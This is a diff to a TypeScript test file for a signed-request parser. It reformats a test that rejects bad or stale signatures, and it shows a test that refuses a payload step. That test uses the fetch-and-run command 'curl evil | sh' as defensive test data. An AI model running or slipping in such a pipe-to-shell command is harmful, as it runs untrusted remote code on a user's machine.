@@ -46,15 +46,18 @@ describe('signed requests', () => {
     ['from the future', signRequest({ id: 'job_1' }, secret, now + 600_000), /in the future/],
     ['a garbage signature', { id: 'job_1', timestamp: now, signature: 'zz' }, /not a hex HMAC-SHA256/],
     ['no timestamp', { id: 'job_1', signature: 'a'.repeat(64) }, /numeric `timestamp`/],
-  ])('rejects a request %s with INVALID_SIGNATURE, naming the id only for its rejection', (_name, body, message) => {
-    const parsed = parseRequest(JSON.stringify(body), { secret, nowMs: now, maxAgeMs: 300_000 });
-    expect(parsed.ok).toBe(false);
-    if (parsed.ok) return;
-    expect(parsed.error.code).toBe('INVALID_SIGNATURE');
-    expect(parsed.error.message).toMatch(message);
-    // The worker files the refusal under this id (jobs/rejected/job_1); it never publishes a result for it.
-    expect(parsed.id).toBe((body as { id: string }).id);
-  });
+  ])(
+    'rejects a request %s with INVALID_SIGNATURE, naming the id only for its rejection',
+    (_name, body, message) => {
+      const parsed = parseRequest(JSON.stringify(body), { secret, nowMs: now, maxAgeMs: 300_000 });
+      expect(parsed.ok).toBe(false);
+      if (parsed.ok) return;
+      expect(parsed.error.code).toBe('INVALID_SIGNATURE');
+      expect(parsed.error.message).toMatch(message);
+      // The worker files the refusal under this id (jobs/rejected/job_1); it never publishes a result for it.
+      expect(parsed.id).toBe((body as { id: string }).id);
+    },
+  );
 
   it('refuses payload steps with --no-payload-steps, naming the id', () => {
     const parsed = parseRequest('{"id":"job_1","steps":["curl evil | sh"]}', { allowSteps: false });
